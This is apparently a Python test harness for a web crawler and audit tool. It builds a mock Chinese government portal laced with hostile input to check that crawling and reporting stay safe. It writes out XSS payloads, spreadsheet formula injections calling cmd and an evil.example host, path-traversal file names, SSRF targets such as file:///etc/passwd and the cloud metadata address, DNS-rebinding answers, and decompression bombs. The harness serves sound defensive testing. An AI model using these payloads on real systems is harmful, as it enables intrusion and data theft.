"""One crawl of a small honest bureau in the midst of all malice at once, and what came of it."""

from __future__ import annotations

import asyncio
import contextlib
import html
import threading
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import psutil

from audits.model import Result
from audits.runner import audit
from reports.build import build
from reports.words import RunStatus
from rules.schema import Rules
from tests.hostile import malice
from tests.hostile.bureau import FRIEND, HOST, PDF, Bureau, Net, crawled, served
from tests.hostile.manners import leads, says
from tests.hostile.server import Asked, Handler

MARK = "owned-by-visitor"  # what a payload would leave behind where it is run
LONG_AGO = ("rebind.sample.org", "oa.gbj-hostile.gov.cn")  # names of this machine that nobody allowed
FLIPS = "flip.sample.org"  # a name that changes its mind at each question
PAYLOADS = (
    f"<img src=x onerror=\"document.title='{MARK}'\">安全播出检查通报",
    f"<script>document.title='{MARK}'</script>设备巡检通报",
    f'"><svg onload=document.title="{MARK}">值班通报',
    '=HYPERLINK("http://evil.example/"&A1,"点我")',
    "+cmd|' /C calc'!A0 关于印发通知",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3 关于值班安排的通知",
    "\u202e知通的班值于关\u202c\u200b",
    "javascript:document.title='" + MARK + "'//",
    "../../../../tmp/owned 关于路径的通知",
)
# The office's own words may be ill chosen too: sections become file names, sheets and headings.
SECTIONS = {"宣传科": "../../../../tmp/owned宣传科", "科技科": f"=2+5<img src=x onerror=document.title='{MARK}'>科技科"}
# What of all this is broken to a visitor too: pictures that are not there, pages and redirects without end.
REALLY_BROKEN = [
    *(f"http://{HOST}{path}" for path in ("/x", "/tzgg/x", "/aqbc/x", "/aqbc/drip.htm", "/redirects/1")),
    f"http://{HOST}/gzdt/out2.htm",  # leads to localhost, a name that the net does not know
    *(f"http://{FRIEND}/out{n}.htm" for n in range(12)),
    "http://localhost/r",
]


@dataclass
class Appetite:
    """The most memory that this process came to use beyond what it had, and that any one below it had."""

    own: int = 0
    child: int = 0


@dataclass
class Attack:
    """What came of it."""

    result: Result
    rules: Rules
    snapshot: Path
    asked: list[Asked]
    knocks: list[str]  # at the place on loopback where nobody may knock
    seconds: float
    appetite: Appetite
    broken: list[str]


@contextmanager
def weighed() -> Iterator[Appetite]:
    """Watch the memory of this process and of those below it."""
    me = psutil.Process()
    before = me.memory_info().rss
    appetite, over = Appetite(), threading.Event()

    def watch() -> None:
        while not over.wait(0.2):
            appetite.own = max(appetite.own, me.memory_info().rss - before)
            for child in me.children(recursive=True):
                with contextlib.suppress(psutil.Error):
                    appetite.child = max(appetite.child, child.memory_info().rss)

    thread = threading.Thread(target=watch)
    thread.start()
    try:
        yield appetite
    finally:
        over.set()
        thread.join()


def without_end(bureau: Bureau, megabytes: int) -> None:
    """Addresses and bodies without end."""
    find = bureau.find
    leaf = says(bureau.page("普通文章", "<h1>普通文章</h1><p>" + "各单位要抓好落实。" * 40 + "</p>"))

    def trapped(host: str, path: str) -> Handler:
        for start, step in malice.ENDLESS.items():
            if path.startswith(start.rpartition("/")[0] + "/") and host.endswith(HOST.removeprefix("www.")):
                return malice.endless(step)
        if path.startswith("/many/"):
            return leaf
        return malice.endless_redirects() if path.startswith("/redirects/") else find(host, path)

    bureau.find = trapped  # type: ignore[method-assign]
    for start in (*malice.ENDLESS, "/redirects/1"):
        bureau.extra_links.setdefault("aqbc", []).append((start, start))
    full = megabytes >= 100
    many = "".join(f"<a href='/many/{n}.htm'>第{n}号</a>" for n in range(50_000 if full else 500))
    pages = {
        "many": says(bureau.page("很多链接", many)),
        "nested": says("<div>" * (100_000 if full else 10_000) + "深处</div>"),
        "flood": malice.floods(megabytes),
        "drip": malice.drips(b"<html>"),
        "utf8": says(b"<html><title>\xff\xfe\xc3\x28</title><p>" + b"\xe5\xb9\xbf\xff" * 400),
    } | {f"bomb-{encoding}": malice.bomb(encoding, megabytes) for encoding in ("gzip", "br", "deflate", "zstd")}
    if full:
        pages["refresh"] = says("<meta http-equiv=refresh content='0;url=/aqbc/refresh2.htm'>")
    for name, handler in pages.items():
        bureau.plant("aqbc", f"/aqbc/{name}.htm", handler, broken=False)
    bureau.plant("aqbc", "/aqbc/flood.pdf", malice.floods(megabytes), broken=False)
    bureau.pages[HOST, "/aqbc/refresh2.htm"] = says("<meta http-equiv=refresh content='0;url=/aqbc/refresh.htm'>")


def reaching_out(bureau: Bureau, secret: int, storms: Mapping[str, str]) -> None:
    """Redirects and links to where nobody may go, by HTTP and by script."""
    targets = (
        "file:///etc/passwd", f"http://127.0.0.1:{secret}/r", f"http://localhost:{secret}/r", f"http://0x7f.1:{secret}/r",
        f"http://rebind.sample.org:{secret}/r", f"http://{FLIPS}:{secret}/r", f"http://oa.gbj-hostile.gov.cn:{secret}/r",
        f"http://{HOST}:{secret}/r", f"http://{FRIEND}:{secret}/r",
        "http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "gopher://127.0.0.1/",
    )  # fmt: skip
    for n, target in enumerate(targets):
        bureau.plant("gzdt", f"/gzdt/out{n}.htm", leads(target), broken=False)
        bureau.plant("gzdt", f"http://{FRIEND}/out{n}.htm", leads(target), broken=False)
        bureau.extra_links["gzdt"].append((target, f"直达 {n}"))
    words = "<h1>脚本</h1><p>" + "各单位要抓好落实，确保安全播出。" * 20 + "</p><div id='app'></div>"
    for name, script in storms.items():
        body = bureau.page("脚本", f"{words}<script>{script.replace('{secret}', str(secret))}</script>")
        bureau.plant("gzdt", f"/gzdt/{name}.htm", says(body), broken=False)
    bureau.plant("gzdt", "/gzdt/..%2f..%2f..%2fetc%2fpasswd.pdf", says(PDF, kind="application/pdf"), broken=False)
    name = "attachment; filename=../../../../../tmp/owned.pdf"
    forced = says(PDF, kind="application/octet-stream", Content_Disposition=name)
    bureau.plant("gzdt", "/gzdt/forced.htm", forced, broken=False)


def misnamed(bureau: Bureau) -> None:
    """Payloads for whoever shows the titles, words and addresses of a portal."""
    gone = says("404", 404)
    bureau.raw_entries["tzgg"] = list(PAYLOADS)
    for n, payload in enumerate(PAYLOADS):
        bureau.plant("tzgg", f"{_place(n)}/dead{n}.htm?q={quote(payload)}", gone, broken=True)
        # In titles the payloads stand as markup, here as words: those reach the report as they are.
        bureau.extra_links["tzgg"][-1] = (bureau.extra_links["tzgg"][-1][0], html.escape(payload))
    bureau.extra_links["tzgg"].append((f'/x"onmouseover="{MARK}.htm', PAYLOADS[0]))


def _place(number: int) -> str:
    """Most dead links lead out: each of the portal's own is proved in the browser, which takes its time."""
    return "" if number < 2 else f"http://{FRIEND}"


def mind_changing(net: Net) -> None:
    """Names of this machine that nobody allowed; one says something else each time it is asked."""
    known = net.names.answer
    turns: list[list[str]] = [["127.0.0.1"], ["169.254.169.254"], ["10.0.0.1"], ["127.0.0.1", "10.0.0.1"]]

    def answer(name: str, kind: str) -> list[str] | int:
        if name in LONG_AGO and kind == "A":
            return ["127.0.0.1"]
        if name == FLIPS and kind == "A":
            turns.append(turns.pop(0))
            return turns[0]
        told = known(name, kind)
        return [] if told is None else told

    net.names.answer = answer


async def attacked(folder: Path, megabytes: int, storms: Mapping[str, str], **settings: object) -> Attack:
    """Crawl and judge a bureau under attack."""
    knocks: list[str] = []

    async def secret(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        knocks.append((await reader.read(200)).decode("latin-1"))
        writer.close()

    listener = await asyncio.start_server(secret, "127.0.0.1", 0)
    bureau = Bureau(articles=2, columns=3, sections=SECTIONS)
    misnamed(bureau)
    without_end(bureau, megabytes)
    reaching_out(bureau, listener.sockets[0].getsockname()[1], storms)
    async with served(bureau.build()) as net:
        mind_changing(net)
        with weighed() as appetite:
            started = time.monotonic()
            end, rules, path = await crawled(net, folder, max_bytes=2_000_000, **settings)
            assert end.state == "complete", end
            result = audit(path, rules)
            seconds = time.monotonic() - started
    listener.close()
    broken = [*REALLY_BROKEN, *bureau.planted]
    return Attack(result, rules, path, net.server.log, knocks, seconds, appetite, broken)


def reported(attack: Attack, folder: Path) -> Path:
    """The report about it."""
    build(attack.result, attack.rules, attack.snapshot, folder, "2026-11", status=RunStatus.DRAFT)
    return folder
